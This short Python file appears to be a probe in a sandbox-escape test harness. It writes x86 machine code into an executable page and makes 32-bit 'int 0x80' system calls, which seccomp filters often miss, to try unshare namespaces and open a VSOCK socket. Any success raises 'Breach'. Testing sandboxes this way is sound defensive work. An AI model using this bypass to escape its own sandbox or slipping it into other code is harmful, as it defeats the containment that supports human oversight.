"""Makes calls by the numbers of 32-bit programs, which filters forget."""

import ctypes
import mmap
import os

from envs import Controller

CODE = bytes.fromhex("53 89 f8 89 f3 89 d1 31 d2 cd 80 5b c3")  # eax = edi, ebx = esi, ecx = edx; int 0x80


class Attack(Controller):
    def solve(self, question):
        if BAIT["machine"] != "x86_64":
            raise OSError("this processor has no such calls")
        page = mmap.mmap(
            -1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        )
        page.write(CODE)
        call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)
        made = call(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        for number, flags in ((310, 0x10000000), (310, 0x00020000), (359, 40)):  # unshare twice, socket(AF_VSOCK)
            answer = made(number, flags, 1)
            if answer >= 0:
                raise Breach(f"call {number} of 32-bit programs was let in")
        raise OSError(-answer, os.strerror(-answer))
